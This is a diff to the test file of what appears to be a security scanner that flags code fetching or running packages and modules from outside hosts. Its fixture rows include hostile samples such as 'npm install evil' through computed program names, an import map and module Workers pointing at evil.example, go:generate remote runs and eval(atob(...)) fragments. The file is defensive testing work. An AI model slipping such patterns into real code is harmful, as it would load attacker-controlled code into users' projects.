@@ -105,6 +105,11 @@ const PROGRAM_COMPUTED: FindingRow[] = [
   ['src/x.js', "execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'evil'])"],
   ['src/x.go', 'p, _ := exec.LookPath("npm")\nexec.Command(p, "install", "evil").Run()'],
 ];
+// Closed (session 48): PROGRAM_COMPUTED and these, by PACKAGE_COMMAND's reading of an argument list whose program is
+// computed (a variable, a lookup, a call's result) or replaced by `executable=`, given `install`, `i` or `dlx`.
+const PROGRAM_COMPUTED_MORE: FindingRow[] = [
+  ['src/x.js', "spawnSync(npmBin, ['install', 'evil'])"],
+];
 // Closed by E0/A's fix (session 45): the command read as the shell builds its words formats the literals
 // (`f'np{"m"}'`, `${'n'}pm`), and a program in a variable the line does not set given `install` is refused.
 const PROGRAM_COMPUTED_CLOSED: FindingRow[] = [
@@ -164,7 +169,7 @@ const DECODED_AND_RUN_MORE: FindingRow[] = [
 // U (high): a module loaded from the attacker's host by spellings URL_IMPORT and the script-tag reading miss: an import
 // map in the page (every `import 'react'` then runs the attacker's file), a protocol-relative dynamic import or Worker,
 // a comment between `import(` and the URL (Vite's usual `/* @vite-ignore */`), the URL through `new URL(…)` or a
-// variable on the same line.
+// variable on the same line. Closed (session 48): smuggled-code.ts's MODULE_FROM_ELSEWHERE, in the pages' reading.
 const MODULES_FROM_A_HOST: FindingRow[] = [
   ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
   // Closed by G's rule (session 45): a protocol-relative import's path starts with `/`, outside the repository.
@@ -443,7 +448,8 @@ const GO_FLAG_SPELLINGS: FindingRow[] = [
 // (`uv run`, `pipx run`, `hatch run` install its dependencies, from its index), Scala CLI's `//> using dep|repository`,
 // Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
 // Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
-// Worker from a URL (Deno and browsers fetch and run it), `//go:generate` lines that fetch and run (`go generate ./...`).
+// Worker from a URL (Deno and browsers fetch and run it; closed with U in session 48), `//go:generate` lines that fetch
+// and run (`go generate ./...`).
 const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
   ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
@@ -457,8 +463,8 @@ const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
   ['src/check.R', 'pak::pak("evil/x")'],
   ['src/check.R', 'BiocManager::install("evil")'],
   ['src/check.py', "import micropip\nawait micropip.install('evil')"],
-  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
-  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
+  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });', 'closed'],
+  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });', 'closed'],
   ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
   ['src/gen.go', '//go:generate npx evil'],
 ];
@@ -769,11 +775,12 @@ describeFindings('attack-48', [
   ['E0 escaped separator before the program', closedRows(ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM)],
   ['E1 escaped setting names', closedRows(ESCAPED_SETTING_NAMES)],
   ['R reading reach', READING_REACH],
-  ['S program computed', PROGRAM_COMPUTED],
+  ['S program computed', closedRows(PROGRAM_COMPUTED)],
+  ['S program computed, more', closedRows(PROGRAM_COMPUTED_MORE)],
   ['S program computed, closed', closedRows(PROGRAM_COMPUTED_CLOSED)],
   ['T decoded and run', closedRows(DECODED_AND_RUN)],
   ['T decoded and run, more', closedRows(DECODED_AND_RUN_MORE)],
-  ['U modules from a host', MODULES_FROM_A_HOST],
+  ['U modules from a host', closedRows(MODULES_FROM_A_HOST)],
   ['A spellings', closedRows(SPELLINGS)],
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', closedRows(BACKTICK_CALLS)],
@@ -1052,13 +1059,37 @@ describeAccepted('attack-48 T: decoded data stays accepted', [
   ['src/x.py', "import subprocess\nsubprocess.run(['xxd', '-r', '-p', 'in.hex', 'out.bin'], check=True)"],
 ]);
 
-/** T's readings of session 48 cost time linear in what they read: decoders in sinks never closed, and a shell's decoders never piped. */
-describe('attack-48 T: session 48 readings in linear time', () => {
+/** A program computed given a verb no manager fetches with, or git's `add` (S's reading, session 48). */
+describeAccepted('attack-48 S: computed programs given other verbs stay accepted', [
+  ['src/x.go', 'exec.Command(git, "add", ".").Run()'],
+  ['src/x.py', "import subprocess\nsubprocess.run([GIT, 'add', path], check=True)"],
+  ['src/x.py', "import subprocess, sys\nsubprocess.run([sys.executable, 'setup.py', 'build'], check=True)"],
+  ['src/x.py', "import subprocess\nsubprocess.run(['git', 'status'], executable='/usr/bin/git')"],
+  ['src/x.js', "spawnSync(process.execPath, [script, 'test'], { stdio: 'inherit' })"],
+  ['src/x.py', "steps = [step, 'install', 'test']"],
+]);
+
+/** Modules and workers from the repository, an import map of its own files (U's reading, session 48). */
+describeAccepted('attack-48 U: modules of the repository stay accepted', [
+  ['src/index.html', '<script type="importmap">\n{\n  "imports": {\n    "react": "./vendor/react.js"\n  }\n}\n</script>'],
+  ['src/app.js', "const w = new Worker(new URL('./worker.js', import.meta.url), { type: 'module' })"],
+  ['src/app.js', 'const mod = await import(`./locales/${lang}.js`)'],
+  ['src/app.ts', 'const m = await import(/* webpackChunkName: "x" */ \'./x\')'],
+  ['src/app.ts', "const x = a ? import('./a') : import('./b')"],
+  ['src/app.js', "const url = 'https://api.example.com/v1'; const res = await fetch(url)"],
+  ['src/app.js', "const base = 'https://cdn.example.com/'; const mod = await import('./mod.js')"],
+]);
+
+/** T's, S's and U's readings of session 48 cost time linear in what they read: decoders in sinks never closed, a shell's decoders never piped, programs computed, addresses never imported. */
+describe('attack-48 T, S, U: session 48 readings in linear time', () => {
   it.each([
     ['src/x.js', 'sinks given decoders, never closed', "eval(atob(Buffer.from(x, 'y' "],
     ['src/x.py', 'reversed literals and char codes in sinks', "exec(bytes([map(chr, 'a'[::-1] "],
     ['src/x.js', 'decoded names, never run', 'c = atob(x); '],
     ['src/check.py', "a shell's decoders, never piped to a shell", "system('base64 -d x -d xxd -r -z rev tr a-z-a-z "],
+    ['src/check.py', 'computed programs, never given a verb', "run([a.b[c](d), 'x', executable= "],
+    ['src/app.js', 'names given addresses, never imported', "u = 'https://x'; import(/* a */ v"],
+    ['src/index.html', 'import maps never given an address', '<script type="importmap">{"a": "./b", '],
     ['src/check.py', 'escapes printed, substitutions never closed', "system('printf a eval $(printf \\x6 sh <(rev "],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
     expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
